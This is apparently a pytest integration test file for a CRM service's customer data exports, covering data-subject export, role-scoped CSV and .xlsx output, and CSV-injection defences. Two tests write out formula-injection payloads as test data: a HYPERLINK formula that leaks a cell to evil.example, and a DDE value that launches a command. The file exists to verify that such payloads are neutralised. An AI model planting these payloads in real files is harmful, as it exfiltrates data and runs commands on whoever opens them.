"""Exports through the real api: the data-subject export holds everything this service keeps
about the customer (access-logged, privacy roles only); the CSV and .xlsx exports stream what
the caller may see, in the import's format, headed in the caller's language."""

from __future__ import annotations

import csv
import io

import grpc
import openpyxl
import pytest
from crm.common.v1 import types_pb2
from crm.customer.v1 import customer_pb2
from crm_shared.auth import Principal
from crm_shared.auth.principal import DataScope
from crm_shared.grpc.status import describe_rpc_error
from customer_service import personal_data
from google.protobuf.json_format import MessageToDict

pytestmark = pytest.mark.integration

REP_EAST = Principal(
    "u-east", "rep.zhang", frozenset({"sales_rep"}), "/hq/sales/east", DataScope.OWN
)
REP_NORTH = Principal(
    "u-north", "rep.li", frozenset({"sales_rep"}), "/hq/sales/north", DataScope.OWN
)
SALES_LEAD = Principal(
    "u-lead", "sales.lead", frozenset({"sales_lead"}), "/hq/sales", DataScope.DEPARTMENT
)
EAST_LEAD = Principal(
    "u-east-lead", "east.lead", frozenset({"sales_lead"}), "/hq/sales/east", DataScope.DEPARTMENT
)
DPO = Principal("u-dpo", "dpo.chen", frozenset({"dpo"}), "/hq/legal", DataScope.ALL)


@pytest.fixture
def api(start_customer_api):
    server = start_customer_api()
    return server.stub, server.database


def _create(stub, owner, name, **fields) -> customer_pb2.Customer:
    return stub(owner).CreateCustomer(
        customer_pb2.CreateCustomerRequest(
            customer=customer_pb2.Customer(
                type=customer_pb2.CUSTOMER_TYPE_INDIVIDUAL, display_name=name, **fields
            )
        )
    )


def test_the_data_subject_export_holds_everything_about_the_customer(api):
    stub, database = api
    customer = _create(stub, REP_EAST, "韩梅梅", phone="13912345678", email="han@example.com")
    other = _create(stub, REP_EAST, "李雷", phone="13800000000")
    stub(REP_EAST).GrantConsent(
        customer_pb2.GrantConsentRequest(
            customer_id=customer.id,
            purpose=customer_pb2.CONSENT_PURPOSE_MARKETING,
            source="web_form",
        )
    )
    with database.unit_of_work() as uow:
        personal_data.store_personal_fields(
            uow.session, customer.id, {"bank_account": "6222020200112233445"}
        )

    document = stub(DPO).ExportCustomerData(
        customer_pb2.ExportCustomerDataRequest(customer_id=customer.id, access_purpose="DSR-7")
    )

    assert (document.customer_id, document.source_service) == (customer.id, "customer")
    by_type: dict[str, list[dict]] = {}
    for record in document.records:
        by_type.setdefault(record.resource_type, []).append(MessageToDict(record.data))
    assert by_type["customer"][0]["phone"] == "+8613912345678"
    assert by_type["customer"][0]["email"] == "han@example.com"
    assert by_type["customer"][0]["id"] == customer.id
    assert [c["purpose"] for c in by_type["consent"]] == ["marketing"]
    assert [(c["state"], c["source"]) for c in by_type["consent_change"]] == [
        ("granted", "web_form")
    ]
    assert by_type["sensitive_field"] == [
        {
            "customer_id": customer.id,
            "field_path": "bank_account",
            "value": "6222020200112233445",
            "update_time": by_type["sensitive_field"][0]["update_time"],
        }
    ]
    assert "13800000000" not in str(document)  # nothing of another customer
    assert other.id not in str(document)
    customer_record = next(r for r in document.records if r.resource_type == "customer")
    assert customer_record.resource_id == customer.id
    assert customer_record.audit.created_by == "u-east"

    log = (
        stub(DPO)
        .ListAccessLogEntries(
            customer_pb2.ListAccessLogEntriesRequest(
                customer_id=customer.id, action=customer_pb2.ACCESS_ACTION_EXPORT
            )
        )
        .access_log_entries
    )
    assert [(e.actor_id, e.purpose) for e in log] == [("u-dpo", "DSR-7")]
    assert {"customer", "consent", "sensitive_field"} <= set(log[0].field_paths)


def test_a_rep_may_not_export_a_customers_personal_data(api):
    stub, _ = api
    customer = _create(stub, REP_EAST, "韩梅梅")
    with pytest.raises(grpc.RpcError) as caught:
        stub(REP_EAST).ExportCustomerData(
            customer_pb2.ExportCustomerDataRequest(customer_id=customer.id)
        )
    assert caught.value.code() is grpc.StatusCode.PERMISSION_DENIED


def _csv(stub, who, **request) -> tuple[list[customer_pb2.ExportCustomersChunk], list[dict]]:
    chunks = list(stub(who).ExportCustomers(customer_pb2.ExportCustomersRequest(**request)))
    text = b"".join(chunk.data for chunk in chunks).decode()
    return chunks, list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_holds_exactly_what_the_caller_may_see(api):
    stub, _ = api
    east = [_create(stub, REP_EAST, f"东{i}", phone=f"1380000000{i}") for i in range(3)]
    north = [_create(stub, REP_NORTH, f"北{i}") for i in range(2)]
    everyone = {c.display_name for c in east + north}

    assert {row["display_name"] for row in _csv(stub, REP_EAST)[1]} == {
        c.display_name for c in east
    }
    assert {row["display_name"] for row in _csv(stub, REP_NORTH)[1]} == {
        c.display_name for c in north
    }
    assert {row["display_name"] for row in _csv(stub, EAST_LEAD)[1]} == {
        c.display_name for c in east
    }
    assert {row["display_name"] for row in _csv(stub, SALES_LEAD)[1]} == everyone
    assert {row["display_name"] for row in _csv(stub, SALES_LEAD, owner_id="u-north")[1]} == {
        c.display_name for c in north
    }

    chunks, rows = _csv(stub, REP_EAST, columns=["display_name", "phone"])
    assert chunks[0].data.decode().splitlines()[0] == "display_name,phone"
    assert chunks[-1].row_count == 3
    assert sorted(rows, key=lambda r: r["display_name"]) == [
        # A leading + would be a formula to a spreadsheet: the cell is marked as text.
        {"display_name": f"东{i}", "phone": f"'+861380000000{i}"}
        for i in range(3)
    ]

    log = (
        stub(DPO)
        .ListAccessLogEntries(
            customer_pb2.ListAccessLogEntriesRequest(
                actor_id="u-east", action=customer_pb2.ACCESS_ACTION_EXPORT
            )
        )
        .access_log_entries
    )
    assert {entry.customer_id for entry in log} == {c.id for c in east}


def test_the_csv_export_reads_back_as_an_import(api):
    stub, _ = api
    _create(
        stub,
        REP_EAST,
        "韩梅梅",
        phone="13912345678",
        email="han@example.com",
        individual=customer_pb2.IndividualProfile(gender=customer_pb2.GENDER_FEMALE, age=30),
    )
    exported = b"".join(
        chunk.data
        for chunk in stub(REP_EAST).ExportCustomers(customer_pb2.ExportCustomersRequest())
    )
    report = stub(REP_NORTH).ImportCustomers(
        customer_pb2.ImportCustomersRequest(
            csv_content=exported.replace(b"u-east", b""),
            duplicate_handling=customer_pb2.DUPLICATE_HANDLING_CREATE,
        )
    )
    assert [(row.status, list(row.errors)) for row in report.rows] == [
        (customer_pb2.IMPORT_ROW_STATUS_IMPORTED, [])
    ]
    copy = stub(REP_NORTH).GetCustomer(
        customer_pb2.GetCustomerRequest(id=report.rows[0].customer_id)
    )
    assert (
        copy.display_name,
        copy.phone,
        copy.email,
        copy.individual.gender,
        copy.individual.age,
    ) == ("韩梅梅", "+8613912345678", "han@example.com", customer_pb2.GENDER_FEMALE, 30)


def test_no_exported_cell_runs_as_a_formula_and_the_file_still_reads_back(api):
    """CSV injection (OWASP): whoever opens the export in a spreadsheet must not run what a
    customer's name or notes say; the import reads the marked cells back as they were."""
    stub, _ = api
    name = '=HYPERLINK("https://evil.example/?leak="&C2,"Open")'
    needs = "@SUM(1+1)*cmd|' /C calc'!A0"
    _create(stub, REP_EAST, name, phone="13912345678", needs=needs, source_detail="-2+3")
    columns = ["display_name", "phone", "needs", "source_detail"]
    exported = b"".join(
        chunk.data
        for chunk in stub(REP_EAST).ExportCustomers(
            customer_pb2.ExportCustomersRequest(columns=columns)
        )
    )
    assert list(csv.DictReader(io.StringIO(exported.decode()))) == [
        {
            "display_name": "'" + name,
            "phone": "'+8613912345678",
            "needs": "'" + needs,
            "source_detail": "'-2+3",
        }
    ]

    header, row, _end = exported.decode().split("\r\n")
    report = stub(REP_NORTH).ImportCustomers(
        customer_pb2.ImportCustomersRequest(
            csv_content=f"type,{header}\r\nindividual,{row}\r\n".encode(),
            duplicate_handling=customer_pb2.DUPLICATE_HANDLING_CREATE,
        )
    )
    assert [(row.status, list(row.errors)) for row in report.rows] == [
        (customer_pb2.IMPORT_ROW_STATUS_IMPORTED, [])
    ]
    copy = stub(REP_NORTH).GetCustomer(
        customer_pb2.GetCustomerRequest(id=report.rows[0].customer_id)
    )
    assert (copy.display_name, copy.phone, copy.needs, copy.source_detail) == (
        name,
        "+8613912345678",
        needs,
        "-2+3",
    )


@pytest.mark.parametrize(
    "request_fields, field",
    [
        ({"columns": ["salary"]}, "columns[0]"),
        ({"locale": "fr-FR"}, "locale"),
        ({"format": 9}, "format"),
    ],
)
def test_an_unknown_column_locale_or_format_is_refused(api, request_fields, field):
    stub, _ = api
    with pytest.raises(grpc.RpcError) as caught:
        list(stub(REP_EAST).ExportCustomers(customer_pb2.ExportCustomersRequest(**request_fields)))
    error = describe_rpc_error(caught.value)
    assert error.code is grpc.StatusCode.INVALID_ARGUMENT
    assert [v.field for v in error.violations] == [field]


def _xlsx(stub, who, **request) -> openpyxl.Workbook:
    data = b"".join(
        chunk.data
        for chunk in stub(who).ExportCustomers(
            customer_pb2.ExportCustomersRequest(format=types_pb2.TABLE_FORMAT_XLSX, **request)
        )
    )
    return openpyxl.load_workbook(io.BytesIO(data))


def test_the_xlsx_export_as_a_rep_holds_only_their_customers_under_chinese_headers(api):
    """Issue 20: the reader library opens it; the rep's customers only, each access-logged."""
    stub, _ = api
    east = [_create(stub, REP_EAST, f"东{i}", phone=f"1380000000{i}") for i in range(3)]
    _create(stub, REP_NORTH, "北0")

    sheet = _xlsx(stub, REP_EAST, locale="zh-CN", columns=["display_name", "phone", "type"]).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert sheet.title == "客户"
    assert rows[0] == ["客户名称", "手机", "客户类型"]
    assert sorted(rows[1:]) == [[f"东{i}", f"+861380000000{i}", "个人"] for i in range(3)]
    english = _xlsx(stub, REP_EAST, locale="en-US", columns=["display_name"]).active
    assert next(english.iter_rows(values_only=True)) == ("display_name",)

    log = (
        stub(DPO)
        .ListAccessLogEntries(
            customer_pb2.ListAccessLogEntriesRequest(
                actor_id="u-east", action=customer_pb2.ACCESS_ACTION_EXPORT
            )
        )
        .access_log_entries
    )
    assert sorted(entry.customer_id for entry in log) == sorted(2 * [c.id for c in east])

    # A CSV for a reader starts with the byte-order mark Excel needs to read it as UTF-8.
    chunks = list(
        stub(REP_EAST).ExportCustomers(
            customer_pb2.ExportCustomersRequest(locale="zh-CN", columns=["display_name"])
        )
    )
    text = b"".join(chunk.data for chunk in chunks).decode()
    assert text.startswith("\ufeff客户名称\r\n")
    assert sorted(text.split()[1:]) == ["东0", "东1", "东2"]
    assert not _csv(stub, REP_EAST)[0][0].data.startswith(b"\xef\xbb\xbf")  # machines: as before


def test_no_xlsx_cell_runs_as_a_formula_and_the_workbook_reads_back(api):
    """An .xlsx cell is typed: every exported one is text (never a formula), one that looks
    like a formula also carries Excel's quote prefix, and the value is unchanged, so the
    workbook imports back as it was."""
    stub, _ = api
    name = '=HYPERLINK("https://evil.example/?leak="&C2,"Open")'
    needs = "@SUM(1+1)*cmd|' /C calc'!A0"
    _create(stub, REP_EAST, name, phone="13912345678", needs=needs, source_detail="-2+3")
    columns = ["type", "display_name", "phone", "needs", "source_detail"]

    book = _xlsx(stub, REP_EAST, columns=columns)
    _header, row = book.active.iter_rows()
    assert [cell.value for cell in row] == ["individual", name, "+8613912345678", needs, "-2+3"]
    assert {cell.data_type for cell in row} == {"s"}
    assert [cell.quotePrefix for cell in row] == [False, True, True, True, True]

    file = io.BytesIO()
    book.save(file)
    report = stub(REP_NORTH).ImportCustomers(
        customer_pb2.ImportCustomersRequest(
            csv_content=file.getvalue(), duplicate_handling=customer_pb2.DUPLICATE_HANDLING_CREATE
        )
    )
    assert [(row.status, list(row.errors)) for row in report.rows] == [
        (customer_pb2.IMPORT_ROW_STATUS_IMPORTED, [])
    ]
    copy = stub(REP_NORTH).GetCustomer(
        customer_pb2.GetCustomerRequest(id=report.rows[0].customer_id)
    )
    assert (copy.display_name, copy.phone, copy.needs, copy.source_detail) == (
        name,
        "+8613912345678",
        needs,
        "-2+3",
    )
